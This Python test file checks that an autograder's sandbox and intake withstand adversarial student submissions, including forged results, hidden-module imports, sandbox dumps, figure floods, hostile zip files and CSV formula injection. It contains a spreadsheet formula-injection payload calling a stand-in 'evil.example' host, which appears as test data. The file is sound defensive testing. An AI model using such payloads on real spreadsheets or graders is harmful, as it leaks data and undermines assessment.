"""The adversarial class (autograder/adversarial.py) graded in one run with honest students:
every submission gets its expected score with a stated reason, and nothing escapes the sandbox."""
import csv
import html
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder import adversarial, archive, grade, intake, paths, sandbox
from autograder.grade_class import results_path
from autograder.roster import Roster, Student


def test_every_submission_is_graded_as_expected_with_a_reason(adversarial_class):
    _, expected, results, _ = adversarial_class
    assert set(results) == set(expected)
    for student, exp in expected.items():
        r = results[student]
        said = " ".join(r.notes + [v.message for v in r.verdicts] + [r.problem])
        assert exp.accepts(r.score), f"{student} ({exp.what}): {r.score} != {exp.score}; {said[:400]}"
        assert exp.reason in said, f"{student}: reason {exp.reason!r} not in {said[:400]!r}"
        if r.score < adversarial.FULL:
            assert said.strip(), f"{student} lost points without a reason"


def test_gradebook_matches_and_is_intact(adversarial_class):
    course, expected, results, _ = adversarial_class
    with sqlite3.connect(course / "gradebook.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    rows = {r.student: r for r in grade.scores(course, [adversarial.ASSIGNMENT])}
    for student in expected:
        assert rows[student].auto == results[student].score, student


def test_nothing_escaped_the_sandbox(adversarial_class):
    course, _, _, before = adversarial_class
    for path, content in before.items():
        assert path.read_bytes() == content, f"{path} was modified"
    for target in adversarial.escape_targets(course)[2:]:
        assert not Path(target).exists(), f"a submission wrote {target}"
    reader = results_path(course, adversarial.ASSIGNMENT, "reads-solutions")
    printed = "".join(o.get("text", "") for c in nbformat.read(reader, as_version=4).cells
                      if c.cell_type == "code" for o in c.outputs)
    assert "NOTHING-FOUND" in printed and "LEAKED" not in printed


def test_feedback_for_everyone_without_hidden_tests(adversarial_class):
    course, expected, _, _ = adversarial_class
    for student in expected:
        html = (course / "feedback" / student / adversarial.ASSIGNMENT / f"{adversarial.ASSIGNMENT}.html").read_text()
        assert "from autograder.hidden import grade" not in html and "BEGIN HIDDEN TESTS" not in html
    notes = (course / "feedback" / "no-metadata" / adversarial.ASSIGNMENT / f"{adversarial.ASSIGNMENT}.html").read_text()
    assert "Grader notes" in notes


def test_a_cell_past_its_limit_is_interrupted_and_the_rest_runs(adversarial_class):
    """The kernel is interrupted (not left running), the cells after it run, and the notebook keeps
    its cells as submitted (the grader's probe cell replaces none of them)."""
    course, _, results, _ = adversarial_class
    executed = results_path(course, adversarial.ASSIGNMENT, "slow-cell")
    cells = nbformat.read(executed, as_version=4).cells
    original = nbformat.read(course.parent / "submissions" / "slow-cell" / adversarial.ASSIGNMENT
                             / f"{adversarial.ASSIGNMENT}.ipynb", as_version=4).cells
    assert cells[0].source == original[0].source and "pass" not in [c.source for c in cells]
    sleeper = next(i for i, c in enumerate(cells) if "time.sleep(3600)" in c.source)
    after = [c for c in cells[sleeper + 1:] if c.cell_type == "code"]
    assert after and all(c.execution_count is not None for c in after), "cells after the timeout did not run"
    assert any("ran past the" in p for p in results["slow-cell"].notes + [results["slow-cell"].problem])


def _printed(course: Path, student: str) -> str:
    """What the student's cells printed in the grader's run."""
    nb = nbformat.read(results_path(course, adversarial.ASSIGNMENT, student), as_version=4)
    return "".join(str(o.get("text", "")) + str(o.get("evalue", "")) for c in nb.cells
                   if c.cell_type == "code" for o in c.outputs)


def test_attacks_on_the_grader_find_nothing_to_hit(adversarial_class):
    """No result file to rewrite, no socket to replace, no process to kill, no instructor module to
    import, no root-only file to read, no disk to fill beyond the sandbox's scratch space."""
    course = adversarial_class[0]
    forged = _printed(course, "forges-results")
    assert "blocked symlink PermissionError" in forged and "blocked kill" in forged
    imports = _printed(course, "imports-hidden")
    assert "LEAKED" not in imports and imports.count("blocked autograder.") == 3
    root = _printed(course, "root-in-disguise")
    assert "LEAKED" not in root and root.count("PermissionError") == 3
    full = int(re.search(r"disk full after (\d+) MB", root).group(1))
    assert full <= sandbox.Limits().scratch_mb, full
    assert "uid 0" not in root.replace("uid 0.", "")


def test_a_flood_of_figures_is_capped_with_notes(adversarial_class):
    """Per cell, per notebook, per image: what is kept stays within the caps, and a note in the
    graded notebook says what was not kept and why."""
    course, _, _, _ = adversarial_class
    limits = sandbox.Limits()
    nb = nbformat.read(results_path(course, adversarial.ASSIGNMENT, "figure-flood"), as_version=4)
    per_cell = [sum("image/png" in o.get("data", {}) for o in c.outputs) for c in nb.cells if c.cell_type == "code"]
    assert max(per_cell) == limits.figures_per_cell and sum(per_cell) == limits.figures, per_cell
    honest = nbformat.read(results_path(course, adversarial.ASSIGNMENT, "honest"), as_version=4)
    assert "figure not kept" not in nbformat.writes(honest)
    notes = _printed(course, "figure-flood")
    for reason in (f"more than {limits.figures_per_cell} in one cell", f"more than {limits.figures} in the notebook",
                   rf"\d{{4}}x\d{{4}} pixels, over {limits.figure_px} on a side", "not a valid image/png",
                   f"65000x65000 pixels, over {limits.figure_px} on a side"):
        assert re.search(rf"\[grader: figure not kept: {reason}\]", notes), reason   # (a 3200x2400 figure, cropped)
    def images_in_feedback(student):   # (images shown: not the escaped source of the cell that forged them)
        page = (course / "feedback" / student / adversarial.ASSIGNMENT / f"{adversarial.ASSIGNMENT}.html"
                ).read_text()
        return len(re.findall(r'<img[^>]*\ssrc="data:image/', page))
    honest_figures = sum("image/png" in o.get("data", {}) for c in honest.cells if c.cell_type == "code" for o in c.outputs)
    given = images_in_feedback("honest") - honest_figures   # (the instructor's own images in the notebook)
    assert images_in_feedback("figure-flood") == limits.figures + given   # (none of the 300 inside HTML output)


# the adversarial students whose answers are the release stubs: nothing of the solution is theirs
BLANK_ANSWERS = ("edited-tests", "monkeypatch", "skip-execution", "deleted-answers", "forges-results",
                 "imports-hidden", "dumps-sandbox", "fifo", "symlink")


def _instructor_only(course: Path) -> dict[str, list[str]]:
    """Text that only the instructor has: solution lines and model answers (in the source notebook's
    answer cells, not in the release), hidden-check source lines, and the hidden checks' seeds."""
    source = nbformat.read(course / "source" / adversarial.ASSIGNMENT / f"{adversarial.ASSIGNMENT}.ipynb", as_version=4)
    release = "\n".join(c.source for c in nbformat.read(
        course / "release" / adversarial.ASSIGNMENT / f"{adversarial.ASSIGNMENT}.ipynb", as_version=4).cells)
    solution = {line.strip() for c in source.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")
                for line in c.source.splitlines() if len(line.strip()) >= 12 and "###" not in line}
    hidden_src = (paths.ROOT / "autograder" / "hidden" / "perceptron.py").read_text()
    hidden = {line.strip() for line in hidden_src.splitlines()
              if len(line.strip()) >= 30 and not line.strip().startswith(("from ", "import ", "#"))}
    seeds = [m.replace("_", "") for m in re.findall(r"SEED\s*=\s*([\d_]+)", hidden_src)]
    return {"solution": sorted(line for line in solution if line not in release),
            "hidden": sorted(hidden), "seed": seeds}


def _received(course: Path, student: str) -> str:
    """Every artifact the student receives, as text: the feedback HTML without its tags (code is
    split into highlighting spans there) and the graded notebook's sources and outputs."""
    html_text = (course / "feedback" / student / adversarial.ASSIGNMENT / f"{adversarial.ASSIGNMENT}.html").read_text()
    plain = html.unescape(re.sub(r"<[^>]+>", "", html_text))
    nb = nbformat.read(results_path(course, adversarial.ASSIGNMENT, student), as_version=4)
    return plain + nbformat.writes(nb)


def test_no_student_receives_instructor_only_text(adversarial_class):
    course, expected, _, _ = adversarial_class
    secret = _instructor_only(course)
    assert secret["solution"] and secret["hidden"] and secret["seed"], "the search must have something to find"
    for student in expected:
        got = _received(course, student)
        for kind in ("hidden", "seed") + (("solution",) if student in BLANK_ANSWERS else ()):
            found = [s for s in secret[kind] if s in got]
            assert not found, f"{student} received {kind} text: {found[:3]}"
    assert "/job/inputs" in _printed(course, "dumps-sandbox"), "the dump ran (it must see its own inputs)"


# ---- intake's adversaries (fast: nothing is graded) ----------------------------------------------

_FAKE = {"solution": json.dumps({"cells": [], "metadata": {"who": "solution"}}).encode(),
         "blank": json.dumps({"cells": [], "metadata": {"who": "blank"}}).encode()}
_INTAKE_CASES = adversarial.intake_cases(_FAKE)


@pytest.mark.parametrize("case", sorted(_INTAKE_CASES))
def test_intake_adversaries(case, tmp_path):
    c = _INTAKE_CASES[case]
    zipped = tmp_path / "submissions.zip"
    with zipfile.ZipFile(zipped, "w") as z:
        for name, data in c.files.items():
            z.writestr(name, data)
    roster = Roster([Student(**s) for s in c.roster]) if c.roster is not None else None
    start = time.monotonic()
    try:
        taken = intake.collect(zipped, adversarial.INTAKE_ASSIGNMENT, roster=roster)
    except intake.IntakeError as exc:
        assert type(exc).__name__ in c.may_raise, f"{case} ({c.what}): {exc}"
        return
    finally:
        assert time.monotonic() - start < c.seconds, f"{case} ({c.what}): intake took too long"
    who = {s.origin: s for s in taken.submissions}
    fates = {f.file: f for f in taken.fates}
    assert set(fates) | {f.rstrip("/") for f in fates} >= set(c.files), f"{case}: a file has no fate"
    for file, student in (c.graded or {}).items():
        assert file in who, f"{case} ({c.what}): {file} not graded; {fates.get(file)}"
        assert student is None or who[file].student == student, f"{case}: {file} graded as {who[file].student}"
        assert fates[file].fate == intake.GRADED
    if c.distinct:
        owners = [who[f].student for f in c.graded]
        assert len(set(owners)) == len(owners), f"{case} ({c.what}): students merged: {owners}"
    for student, file in c.never:
        assert not (file in who and who[file].student == student), f"{case} ({c.what}): {file} graded as {student}"
        assert not any(f.student == student and f.file == file for f in taken.fates), f"{case}: {file} -> {student}"
    for file, fate in (c.fates or {}).items():
        assert fates[file].fate == fate, f"{case}: {file} is {fates[file].fate}, not {fate}"
    for file, late in (c.late or {}).items():
        assert who[file].late_marker == late, f"{case}: {file} late marker {who[file].late_marker}"
    for file in c.untimed:
        assert who[file].submitted_at is None, f"{case} ({c.what}): {file} took a time from the student's file"
    # what intake keeps for regrades stays in each student's own folder, whatever the file names
    kept = tmp_path / "course"
    archive.save(kept, adversarial.INTAKE_ASSIGNMENT, taken)
    files = archive.folder(kept, adversarial.INTAKE_ASSIGNMENT) / "files"
    for path in (p for p in kept.rglob("*") if p.is_file() and files in p.parents):
        assert path.parent.parent == files and path.parent.name in {s.student for s in taken.submissions}, path
    if c.report_safe:
        with open(taken.write(tmp_path / "report.csv"), newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        bad = [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert not bad, f"{case}: the intake report holds formulas: {bad}"


_PARSE = """
import resource, sys, time
resource.setrlimit(resource.RLIMIT_AS, (1_500_000_000, 1_500_000_000))
from autograder import repair
raw = sys.stdin.buffer.read()
start = time.monotonic()
try:
    repair.read_submission(raw, sys.argv[1])
    print("parsed")
except repair.Unmatchable as exc:
    print("unmatchable", exc)
"""


@pytest.mark.parametrize("case", sorted(adversarial.parse_cases()))
def test_hostile_files_are_refused_quickly_in_little_memory(case):
    """What the grader's own process parses (a notebook, jupytext's text) can neither raise past
    `read_submission` (one student's file would stop the class) nor take minutes or gigabytes:
    in a process capped at 1.5 GB, it is read or refused as Unmatchable within seconds."""
    name, raw = adversarial.parse_cases()[case]
    try:
        out = subprocess.run([sys.executable, "-c", _PARSE, name], input=raw, capture_output=True,
                             timeout=8, cwd=paths.ROOT)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{case}: reading the file took more than 8 s")
    said = out.stdout.decode() + out.stderr.decode()[-1500:]
    assert out.returncode == 0 and said.startswith(("unmatchable", "parsed")), f"{case}: {said}"
    assert "MemoryError" not in said, f"{case}: {said[:300]}"


def test_a_file_name_that_is_not_utf8_is_reported_not_a_crash(tmp_path):
    """A folder unpacked from an old zip (cp437 names): one student's odd name must not stop the class."""
    subs = tmp_path / "subs"
    for s in ("kim01", "mal04"):
        (subs / s).mkdir(parents=True)
    (subs / "kim01" / "03_softmax.ipynb").write_bytes(b"{}")
    with open(os.path.join(os.fsencode(subs / "mal04"), b"r\xe9sum\xe9.ipynb"), "wb") as f:
        f.write(b"{}")
    taken = intake.collect(subs, adversarial.INTAKE_ASSIGNMENT)
    assert sorted(s.student for s in taken.submissions) == ["kim01", "mal04"]
    report = archive.save(tmp_path / "course", adversarial.INTAKE_ASSIGNMENT, taken)
    assert "mal04/r\ufffdsum\ufffd.ipynb" in report.read_text(encoding="utf-8")


def test_roster_file_holds_no_spreadsheet_formula(tmp_path):
    """roster.csv is the instructor's to edit in a spreadsheet: names from the LMS (which students
    may set) cannot start a formula there, and still read back as they were."""
    names = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "@SUM(1)", "-2+3"]
    Roster([Student(f"s{i}", first_name=n, last_name=n) for i, n in enumerate(names)]).save(tmp_path)
    with open(tmp_path / "roster.csv", newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert [s.first_name for s in sorted(Roster.load(tmp_path).students, key=lambda s: s.id)] == names
